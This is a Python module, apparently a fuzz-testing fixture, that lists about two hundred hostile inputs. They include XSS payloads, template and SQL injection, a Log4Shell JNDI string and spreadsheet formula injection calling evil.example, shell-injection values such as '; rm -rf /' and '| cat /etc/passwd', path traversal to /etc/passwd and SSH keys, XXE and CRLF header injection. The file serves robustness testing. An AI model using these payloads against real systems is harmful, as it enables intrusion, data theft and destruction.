"""Two hundred texts that break what does not take them for text: each calls `hostile()` where it runs as a script."""

_MARKUP = """
<script>hostile()</script>
<img src=x onerror=hostile()>
<svg onload=hostile()>
"><script>hostile()</script>
'><img src=x onerror=hostile()>
" autofocus onfocus="hostile()
' autofocus onfocus='hostile()
</td></tr></table><script>hostile()</script>
</title><script>hostile()</script>
</style><script>hostile()</script>
</textarea><img src=x onerror=hostile()>
</script><script>hostile()</script>
<iframe srcdoc="<script>parent.hostile()</script>">
<a href="javascript:hostile()">here</a>
<style>*{display:none!important}</style>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<form action="https://evil.example/"><input name=secret>
<object data="javascript:hostile()">
<embed src="javascript:hostile()">
<link rel=stylesheet href=https://evil.example/x.css>
<math><mi xlink:href="javascript:hostile()">x</mi></math>
<details open ontoggle=hostile()>
<input autofocus onfocus=hostile()>
<video><source onerror=hostile()></video>
<body onload=hostile()>
<marquee onstart=hostile()>x</marquee>
<scr<script>ipt>hostile()</scr</script>ipt>
<ScRiPt>hostile()</ScRiPt>
<script/x>hostile()</script>
<svg><script>hostile()</script></svg>
<template><script>hostile()</script></template>
<noscript><p title="</noscript><img src=x onerror=hostile()>">
<!--><script>hostile()</script>-->
<![CDATA[<script>hostile()</script>]]>
<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>
&lt;script&gt;hostile()&lt;/script&gt;
&#60;script&#62;hostile()&#60;/script&#62;
&amp;&amp;lt;b&amp;gt;
\\u003cscript\\u003ehostile()\\u003c/script\\u003e
%3Cscript%3Ehostile()%3C/script%3E
javascript:hostile()
data:text/html,<script>hostile()</script>
<b>bold</b>
<h1>heading</h1><hr><br>
<p style="position:fixed;inset:0;background:red">
"onmouseover="hostile()
`onmouseover=`hostile()
<<<>>>
< script >hostile()< /script >
<select><option>x</select><script>hostile()</script>
<table background="javascript:hostile()">
<div style="background:url(javascript:hostile())">
<span class="unseen" hidden>gone</span>
"""
_TEMPLATES = """
{{7*7}}
{{config}}
{{''.__class__.__mro__[1].__subclasses__()}}
{% for x in range(9) %}{{x}}{% endfor %}
{# gone #}
{%raw%}
${7*7}
#{7*7}
<%= 7*7 %>
{person}
{0}
%(name)s
%s%s%s%n
${jndi:ldap://evil.example/x}
$(id)
`id`
; rm -rf /
| cat /etc/passwd
&& shutdown -h now
[red]markup[/red]
[link=https://evil.example]here[/link]
[/]
"""
_SQL = """
' OR '1'='1
'; DROP TABLE entry; --
" OR ""="
1; UPDATE entry SET body='{}'
' UNION SELECT * FROM identity --
Robert'); DELETE FROM outbox;--
\\' OR 1=1 #
%' AND '%'='
_%
0x27
"""
_FORMULAS = """
=cmd|'/C calc'!A0
=HYPERLINK("https://evil.example/?"&A1,"here")
=1+1
+1+1
-1+1
-2+3+cmd|' /C calc'!A0
@SUM(1+1)*cmd|' /C calc'!A0
=IMPORTXML("https://evil.example/","//a")
=WEBSERVICE("https://evil.example/")
+44 20 7946 0000
-0
@
=
"=1+1"
;=1+1
\uff1d1+1
\uff0b1+1
\uff0d1+1
\uff201+1
,=1+1
"""
_PATHS = """
../../../../etc/passwd
..\\..\\..\\windows\\win.ini
/etc/passwd
C:\\Windows\\System32
file:///etc/passwd
\\\\evil.example\\share
~/.ssh/id_rsa
CON
a/b/../../c
.
..
//evil.example
https://evil.example/
%2e%2e%2f%2e%2e%2f
/dev/zero
"""
_PROTOCOLS = """
MSH|^~\\&|evil|evil
x|y^z~a\\b&c
\\X0D\\PID|1
\\E\\\\F\\\\S\\\\T\\\\R\\
capgate/v1/#
+/+/+
$SYS/broker
{"specversion":"1.0"}
["a",{"b":null}]
null
undefined
true
NaN
Infinity
1e999
-9223372036854775809
0x7fffffff
007
2026-02-30T25:61:00Z
[object Object]
__proto__
constructor
toString
hasOwnProperty
valueOf
<session>
&
0
-1
9RX2M7KQ403A
c01
"""
_SCRIPTS_OF_THE_WORLD = [
    "\u0645\u0631\u064a\u0645 \u0643\u0648\u0631\u064a",
    "\u05de\u05e8\u05d9 \u05e7\u05d9\u05e8\u05d9 (1)",
    "\u739b\u4e3d\u5c45\u91cc",
    "\u041c\u0430\u0440\u0438\u044f \u041a\u044e\u0440\u0438",
    "Mari\u0301e Curie\u0301",
    "Z" + "\u0341\u0350\u0323\u0334" * 12 + "algo",
    "\U0001f469\U0001f3fd \U0001f9ca\U0001f321",
    "\U0001f1e6\U0001f1f9\U0001f1e9\U0001f1ea",
    "\ufdfd\ufdfd\ufdfd",
    "\U00012031\U00012031",
    "\u0e49\u0e49\u0e49\u0e49\u0e49",
    "\u0410dmin",
    "\u2117\u00ae\u2122\u00bd\u2153",
    "\u00df\u1e9e\u0130\u0131",
    "'" * 60,
    '"' * 60,
    "\\" * 60,
    "m" * 64,
    "W" * 200,
    "\u202f".join("narrow"),
    "x" * 10_240,
    "<b>" * 3_500,
]
_UNPRINTABLE = [
    "nul\0nul",
    "\0",
    "line\nline",
    "line\r\nSet-Cookie: capgate=evil",
    "line\r\n\r\n<script>hostile()</script>",
    "\rPID|1||evil",
    "tab\ttab",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x1b[2J\x1b[31mred",
    "\x1b]8;;https://evil.example\x07here\x1b]8;;\x07",
    "\x1b]0;title\x07",
    "bell\x07\x08\x08\x08",
    "\x7f\x80\x9b31m",
    "\u202egnp.exe",
    "\u202dforced\u202c",
    "\u2066isolate\u2069",
    "\u200f\u200e",
    "zero\u200bwidth",
    "join\u200djoin\u200c",
    "\ufeffbom",
    "soft\u00adhyphen",
    "\u2028\u2029",
    "\u00a0\u2003\u3000",
    "\ue000\uf8ff",
    "\ufffe\uffff",
    "\U000e0041\U000e0042",
    "\ufff9ruby\ufffa",
    "\u180e\u2060",
]
TEXTS: tuple[str, ...] = tuple(
    dict.fromkeys(
        [
            *(line for lines in (_MARKUP, _TEMPLATES, _SQL, _FORMULAS, _PATHS, _PROTOCOLS)
              for line in lines.strip("\n").split("\n")),
            *_SCRIPTS_OF_THE_WORLD,
            *_UNPRINTABLE,
        ]
    )
)  # fmt: skip
